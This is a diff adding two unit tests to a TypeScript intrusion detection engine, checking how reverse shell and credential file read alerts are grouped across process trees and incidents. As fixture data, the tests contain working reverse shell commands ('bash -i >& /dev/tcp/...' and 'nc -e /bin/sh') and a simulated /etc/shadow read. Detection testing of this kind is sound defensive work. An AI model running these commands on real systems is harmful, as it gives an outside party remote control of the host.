@@ -221,4 +221,59 @@ describe('process trees: baseline findings fold into one alert per tree', () => 
     const third = restored.processBatch(batch(t + 20 * S, [proc({ pid: 972, ppid: 970, exe: '/usr/bin/head', comm: 'head', ancestry: ['/usr/bin/python3', BASH], files: shadow, network: [] })]));
     expect(third.alerts.filter((a) => a.kind === 'credential-file-read')).toEqual([]);
   });
+
+  it('a wrapper and the command it runs fire an exec rule once: bash, timeout and the inner bash of one reverse shell are one alert; siblings stay two', () => {
+    const e = new DetectionEngine(rules, OPTS);
+    const t = learned(e);
+    const inner = 'bash -i >& /dev/tcp/10.0.0.9/4444 0>&1';
+    const exec = (pid: number, ppid: number, exe: string, parentExe: string, argv: string[], at: number) =>
+      sessionProc(pid, ppid, exe, parentExe, { execs: [{ time: at, filename: exe, argv, ret: 0 }] });
+    // the agent's fast path sends each exec in a batch of its own
+    const runs = [
+      e.processBatch(batch(t, [exec(1000, 500, BASH, BASH, ['bash', '-c', `timeout 5 bash -c "${inner}"`], t)])),
+      e.processBatch(batch(t + S, [exec(1001, 1000, '/usr/bin/timeout', BASH, ['timeout', '5', 'bash', '-c', inner], t + S)])),
+      e.processBatch(batch(t + 2 * S, [exec(1002, 1001, BASH, '/usr/bin/timeout', ['bash', '-c', inner], t + 2 * S)])),
+    ];
+    const alerts = runs.flatMap((r) => r.alerts).filter((a) => a.kind === 'reverse-shell-command');
+    expect(alerts).toHaveLength(1);
+    const joined = runs.flatMap((r) => r.occurrences).filter((o) => o.alertId === alerts[0]!.id);
+    expect(joined.flatMap((o) => o.pids)).toEqual([1000, 1001, 1002]);
+    // two siblings started by one script are two acts, two alerts (their targets differ)
+    const e2 = new DetectionEngine(rules, OPTS);
+    const t2 = learned(e2);
+    const a = e2.processBatch(batch(t2, [exec(1100, 500, '/usr/bin/nc.traditional', BASH, ['nc', '-e', '/bin/sh', '10.0.0.9', '4444'], t2)]));
+    const b = e2.processBatch(batch(t2 + S, [exec(1101, 500, BASH, BASH, ['bash', '-c', inner], t2 + S)]));
+    expect([...a.alerts, ...b.alerts].filter((x) => x.kind === 'reverse-shell-command')).toHaveLength(2);
+  });
+
+  it('once an alert names what happened, the deviations of every process tree of its incident join one alert', () => {
+    const e = new DetectionEngine(rules, OPTS);
+    const t = learned(e);
+    // cat reads /etc/shadow: the rule opens an incident of the session (cat and its shell, pid 500)
+    const first = e.processBatch(batch(t, [sessionProc(1200, 500, '/usr/bin/cat', BASH, { files: [{ path: '/etc/shadow', flags: 0, ret: 0, count: 1, firstSeen: t }] })]));
+    const rule = first.alerts.find((a) => a.kind === 'credential-file-read')!;
+    expect(rule.incidentId).not.toBeNull();
+    const deviations = first.alerts.filter((a) => a.detector !== 'rule');
+    expect(deviations).toHaveLength(1);
+    expect(deviations[0]).toMatchObject({ key: 'tree 500:bash', incidentId: rule.incidentId });
+    // a python never seen here (session tree) and the shell it spawns (a tree of its own, pid 1301) deviate
+    const second = e.processBatch(
+      batch(t + 10 * S, [
+        sessionProc(1300, 500, '/usr/bin/python3', BASH, { files: [{ path: '/srv/stage.py', flags: 0, ret: 0, count: 1, firstSeen: t }] }),
+        sessionProc(1301, 1300, BASH, '/usr/bin/python3', { files: [{ path: '/srv/loot.txt', flags: 0, ret: 0, count: 1, firstSeen: t }] }),
+      ]),
+    );
+    // without the incident they would be two alerts (trees 500:bash and 1301:bash); with it, the incident's one
+    expect(second.alerts.filter((a) => a.detector !== 'rule')).toEqual([]);
+    const occ = second.occurrences.find((o) => o.alertId === deviations[0]!.id)!;
+    expect(occ.pids.sort()).toEqual([1300, 1301]);
+    expect(occ.update!.title).toMatch(/in the process trees of this incident \(first: bash \(pid 500\)\)$/);
+    expect(occ.update!.data).toMatchObject({ incident: rule.incidentId });
+    // a checkpoint keeps the incident's alert of deviations
+    const restored = new DetectionEngine(rules, OPTS);
+    restored.restore(JSON.parse(JSON.stringify(e.snapshot())));
+    const third = restored.processBatch(batch(t + 20 * S, [sessionProc(1302, 1300, BASH, '/usr/bin/python3', { files: [{ path: '/srv/more.txt', flags: 0, ret: 0, count: 1, firstSeen: t }] })]));
+    expect(third.alerts.filter((a) => a.detector !== 'rule')).toEqual([]);
+    expect(third.occurrences.map((o) => o.alertId)).toContain(deviations[0]!.id);
+  });
 });
